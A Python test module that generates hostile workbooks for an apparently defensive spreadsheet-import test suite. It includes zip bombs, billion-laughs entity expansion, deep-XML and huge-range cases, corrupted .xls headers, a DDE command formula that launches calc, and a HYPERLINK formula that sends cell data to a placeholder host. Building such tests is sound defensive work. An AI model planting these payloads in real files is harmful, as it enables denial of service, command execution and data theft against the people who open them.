"""Hostile workbooks."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import xlwt

from tests.unit.hostile.case import HEADINGS, PERSON, Case, row, text, written
from tests.unit.hostile.workbooks import (
    SHEET_END,
    SHEET_START,
    book_xml,
    cell,
    packed,
    parts,
    relations,
    shared_strings,
    sheet,
    table,
    xml_row,
)

_MB = 1 << 20


def _shared_bomb(path: Path) -> None:
    """260 MB of shared texts in less than 1 MB."""
    path.write_bytes(packed(parts(shared=b"<sst>" + b"<si><t>a</t></si>" * (260 * _MB // 17) + b"</sst>"), 3))


def _sheet_bomb(path: Path) -> None:
    body = f"{SHEET_START}<sheetData>{table()}".encode() + b"<row></row>" * (260 * _MB // 11)
    path.write_bytes(packed(parts(body + f"</sheetData>{SHEET_END}".encode()), 3))


def _nested(path: Path) -> None:
    """A workbook whose sheet is a zip of a zip."""
    inner = packed({"a.zip": packed({"b.xml": bytes(50 * _MB)})})
    path.write_bytes(packed(parts() | {"xl/worksheets/sheet1.xml": inner}))


def _many_parts(path: Path) -> None:
    path.write_bytes(packed(parts() | {f"xl/media/{i}": b"" for i in range(20_000)}))


def _repeated_text(path: Path) -> None:
    """One text of 100 kB, named by 100,000 cells."""
    rows = "".join(f'<row r="{i}"><c r="E{i}" t="s"><v>0</v></c></row>' for i in range(10, 100_010))
    path.write_bytes(packed(parts(sheet(rows), shared_strings(["a" * 100_000]))))


def _lying_size(path: Path) -> None:
    """The shared texts say that they are 100 bytes, and unpack to 200 MB."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    body = b"<sst>" + b"<si><t>a</t></si>" * (200 * _MB // 17)
    raw = packer.compress(body) + packer.flush()
    data = bytearray(packed(parts(shared=b"A" * len(raw)) | {}, 0))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as book:
        item = book.getinfo("xl/sharedStrings.xml")
        start = item.header_offset + 30 + len(item.filename)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as book:
        for name, content in parts(shared=raw).items():
            book.writestr(name, content)
    data = bytearray(target.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as book:
        item = book.getinfo("xl/sharedStrings.xml")
    entry = data.rfind(b"xl/sharedStrings.xml") - 46
    for at, size_at in ((item.header_offset, 22), (entry, 24)):
        struct.pack_into("<H", data, at + (8 if size_at == 22 else 10), 8)  # deflated
        struct.pack_into("<I", data, at + size_at, 100)
    assert start
    path.write_bytes(bytes(data))


def _twice(path: Path) -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as book:
        for name, content in (*parts().items(), ("XL/worksheets/SHEET1.xml", sheet())):
            book.writestr(name, content)
    path.write_bytes(target.getvalue())


def _columns(path: Path) -> None:
    """A million headings: more than Excel has columns."""
    cells = "".join(f"<c><v>{i}</v></c>" for i in range(1_000_000))
    path.write_bytes(packed(parts(sheet(f'<row r="9">{cells}</row>'))))


def _entities(path: Path) -> None:
    """A billion laughs in the list of sheets."""
    rules = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    path.write_bytes(
        packed(
            parts()
            | {
                "xl/workbook.xml": book_xml(doctype=f"<!DOCTYPE w [{rules}]>")
                .replace("Tổng", "&a9;")
                .encode()
            }
        )
    )


def _entities_in_sheet(path: Path) -> None:
    rules = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    body = sheet(xml_row(9, ["00009", "?", "1", "1"])).replace(
        b"<worksheet", f"<!DOCTYPE w [{rules}]><worksheet".encode(), 1
    )
    path.write_bytes(packed(parts(body.replace(b">?<", b">&a9;<"))))


def _deep_book(path: Path) -> None:
    deep = "<a>" * 500_000 + "</a>" * 500_000
    path.write_bytes(
        packed(parts() | {"xl/workbook.xml": book_xml().replace("<sheets>", f"{deep}<sheets>").encode()})
    )


def _deep_sheet(path: Path) -> None:
    path.write_bytes(packed(parts(sheet(before="<a>" * 1_000_000 + "</a>" * 1_000_000))))


def _open_cells(path: Path) -> None:
    """Formula cells that never end: what looks for them must not begin anew at each."""
    path.write_bytes(packed(parts(sheet('<row r="9">' + '<c r="A9"><f>' * 400_000 + "</row>"))))


def _many_sheets(path: Path) -> None:
    count = 20_000
    path.write_bytes(
        packed(
            parts()
            | {
                "xl/workbook.xml": book_xml(f"S{i}" for i in range(count)).encode(),
                "xl/_rels/workbook.xml.rels": relations(["worksheets/sheet1.xml"] * count).encode(),
            }
        )
    )


def _same_sheet_often(path: Path) -> None:
    """900 sheets, all of them one part with a million cells' area."""
    far = f'<row r="100000">{cell("T100000", "x")}</row>'
    path.write_bytes(
        packed(
            parts(sheet(far))
            | {
                "xl/workbook.xml": book_xml(f"S{i}" for i in range(900)).encode(),
                "xl/_rels/workbook.xml.rels": relations(["worksheets/sheet1.xml"] * 900).encode(),
            }
        )
    )


def _merges(count: int, reference: str) -> bytes:
    merged = f'<mergeCell ref="{reference}"/>' * count
    return sheet(after=f'<mergeCells count="{count}">{merged}</mergeCells>')


def _changed(old: bytes, new: bytes) -> bytes:
    whole = parts()
    return packed({name: content.replace(old, new) for name, content in whole.items()})


def _opendocument(path: Path) -> None:
    """A spreadsheet of another program, that repeats a cell a thousand million times."""
    body = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"/>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    path.write_bytes(packed({"mimetype": mime, "content.xml": body.encode()}))


def _disguised_opendocument(path: Path) -> None:
    _opendocument(path)
    with zipfile.ZipFile(path) as book:
        contents = {name: book.read(name) for name in book.namelist()}
    path.write_bytes(packed(parts(b"<broken") | contents))


def _ole(streams: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + streams + bytes(2048)


def old_book(records: int = 3, far: bool = False) -> bytes:
    book = xlwt.Workbook()
    page = book.add_sheet("Tổng")
    for i, values in enumerate((HEADINGS, *map(row, range(1, records + 1)))):
        for j, value in enumerate(values):
            page.write(i, j, value)
    if far:
        for number in range(40):
            other = book.add_sheet(f"S{number}")
            other.write(0, 0, "a")
            other.write(65_535, 255, "b")
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _old_damaged(path: Path) -> None:
    data = bytearray(old_book(300))
    data[20_000:22_000] = b"\xff" * 2_000
    path.write_bytes(bytes(data))


def _old_sectors(path: Path) -> None:
    """Its table of sectors says that there are four thousand million."""
    data = bytearray(old_book())
    struct.pack_into("<II", data, 0x2C, 0xFFFFFFF0, 0)
    path.write_bytes(bytes(data))


def _formula_injection(path: Path) -> None:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(HEADINGS)
    page.append([*row(1)[:4], "=cmd|' /C calc'!A0"])
    page.append([*row(2)[:2], '=HYPERLINK("http://x/?"&A1)', "1", PERSON])
    book.save(path)


def _styled_far(path: Path) -> None:
    """Cells that are only formatted, to Excel's last corner, make no sheet large."""
    path.write_bytes(packed(parts(sheet('<row r="1048576"><c r="XFD1048576" s="1"/></row>'))))


def _far(reference: str) -> bytes:
    digits = "".join(c for c in reference if c.isdigit())
    return packed(parts(sheet(f'<row r="{digits}">{cell(reference, PERSON)}</row>')))


def _empty_rows(count: int) -> bytes:
    return packed(parts(sheet("".join(f'<row r="{i}"/>' for i in range(10, count)))))


CASES = (
    Case("zip-bomb-shared-texts", ".xlsx", _shared_bomb, "too_large", "shrunk more than 100 times"),
    Case("zip-bomb-sheet", ".xlsx", _sheet_bomb, "too_large", "shrunk more than 100 times"),
    Case("zip-in-zip", ".xlsx", _nested, "not_a_workbook", "the sheet is no XML; the inner zips stay packed"),
    Case("zip-many-parts", ".xlsx", _many_parts, "too_large", "20,000 parts"),
    Case("zip-lying-size", ".xlsx", _lying_size, "not_a_workbook", "a part unpacks to more than it states"),
    Case("zip-two-parts-of-one-name", ".xlsx", _twice, "not_a_workbook", "which of them counts is anyone's guess"),
    Case("zip-cut", ".xlsx", written(lambda: packed(parts())[:-300]), "not_a_workbook", "without its directory"),
    Case("zip-empty", ".xlsx", written(lambda: packed({})), "not_a_workbook", "a zip without parts"),
    Case("shared-text-repeated", ".xlsx", _repeated_text, "too_large", "a text of 100 kB in 100,000 cells: 10 GB"),
    Case("million-columns", ".xlsx", _columns, "too_large", "of Excel's form, past its last column"),
    Case("cell-of-100-mb", ".xlsx", written(lambda: packed(parts(sheet(f'<row r="9">{cell("A9", "a" * (100 * _MB))}</row>')), 1)), "too_large", "no cell may hold more than 128 kB"),
    Case("shared-text-of-100-mb", ".xlsx", written(lambda: packed(parts(sheet('<row r="9"><c r="A9" t="s"><v>0</v></c></row>'), shared_strings(["a" * (100 * _MB)])), 1)), "too_large", "the same by way of the shared texts"),
    Case("heading-of-200-kb", ".xlsx", written(lambda: packed(parts(sheet().replace("Ghi chú".encode(), b"a" * 200_000)))), "too_large", "a heading is a cell too"),
    Case("declared-10-million-rows", ".xlsx", written(lambda: packed(parts(sheet(before='<dimension ref="A1:XFD10000000"/>')))), 3, "the declared range binds nobody; the cells count"),
    Case("empty-rows-really-there", ".xlsx", written(lambda: _empty_rows(1_000_000)), 3, "empty rows are no cells"),
    Case("far-corner", ".xlsx", written(lambda: _far("XFD1048576")), "too_large", "two cells that span 17 thousand million"),
    Case("far-row", ".xlsx", written(lambda: _far("Z9999999")), "too_large", "10⁷ rows of 26 columns, of which 4 are there"),
    Case("far-column", ".xlsx", written(lambda: _far("ZZZ2")), "too_large", "18,278 columns"),
    Case("far-corner-only-formatted", ".xlsx", _styled_far, 3, "a format is no cell"),
    Case("far-corner-oddly-written", ".xlsx", written(lambda: packed(parts(sheet("<row r = '1048576'><c r = 'XFD1048576' ><v>1</v></c></row>")))), "too_large", "blanks round the sign of equality are XML too"),
    Case("one-part-for-900-sheets", ".xlsx", _same_sheet_often, "too_large", "each sheet would be kept for itself"),
    Case("20000-sheets", ".xlsx", _many_sheets, "too_large", "more than 1,000 sheets"),
    Case("billion-laughs", ".xlsx", _entities, "not_a_workbook", "no workbook declares entities"),
    Case("billion-laughs-in-sheet", ".xlsx", _entities_in_sheet, "not_a_workbook", "the library resolves none"),
    Case("deep-xml-in-list", ".xlsx", _deep_book, 3, "500,000 deep, and passed over"),
    Case("deep-xml-in-sheet", ".xlsx", _deep_sheet, 3, "a million deep, and passed over"),
    Case("cells-that-never-end", ".xlsx", _open_cells, "not_a_workbook", "looked through once, not once for each"),
    Case("merges-over-everything", ".xlsx", written(lambda: packed(parts(_merges(50_000, "A1:XFD1048576")))), "not_a_workbook", "50,000 merges of all cells"),
    Case("merges-over-all-rows", ".xlsx", written(lambda: packed(parts(_merges(50_000, "A2:A1048576")))), "not_a_workbook", "merges that overlap"),
    Case("merge-outside", ".xlsx", written(lambda: packed(parts(_merges(1, "ZZ900:ZZ1000")))), 3, "a merge where no cell is"),
    Case("other-program", ".xlsx", _opendocument, "not_a_workbook", "OpenDocument, with 1.6·10¹⁰ cells in 300 bytes"),
    Case("other-program-disguised", ".xlsx", _disguised_opendocument, "not_a_workbook", "the same behind a broken workbook"),
    Case("encrypted", ".xlsx", written(lambda: _ole("EncryptedPackage".encode("utf-16-le"))), "not_a_workbook", "locked by a password"),
    Case("html", ".xlsx", written(lambda: f"<html><table><tr><td>{PERSON}</td></tr></table></html>"), "not_a_workbook", "a web page"),
    Case("text-named-xlsx", ".xlsx", written(lambda: text()), "not_a_workbook", "plain text"),
    Case("formula-injection", ".xlsx", _formula_injection, 2, "a formula is text that nobody runs"),
    Case("dates-and-numbers-without-end", ".xlsx", written(lambda: packed(parts(sheet('<row r="9"><c r="A9"><v>1e308</v></c><c r="B9"><v>-1e999</v></c><c r="C9"><v>NaN</v></c><c r="D9" t="d"><v>0000-00-00</v></c><c r="E9" t="b"><v>1</v></c></row>')))), 4, "what is no number is judged by the checks"),
    Case("shared-text-beyond-the-last", ".xlsx", written(lambda: packed(parts(sheet('<row r="9"><c r="A9" t="s"><v>999999999</v></c></row>'), shared_strings(["a"])))), "not_a_workbook", "a cell that names a text which is not there"),
    Case("old-sound", ".xls", written(lambda: old_book()), 3, "read in a process of its own"),
    Case("old-far-corners", ".xls", written(lambda: old_book(far=True)), "too_large", "40 sheets of 16 million cells' area in 60 kB"),
    Case("old-damaged", ".xls", _old_damaged, "not_a_workbook", "BIFF records overwritten"),
    Case("old-cut", ".xls", written(lambda: old_book(300)[:9_000]), "not_a_workbook", "cut short"),
    Case("old-sectors", ".xls", _old_sectors, "not_a_workbook", "a header that asks for 2 TB"),
    Case("old-only-a-head", ".xls", written(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600), "not_a_workbook", "nothing but the signature"),
)  # fmt: skip
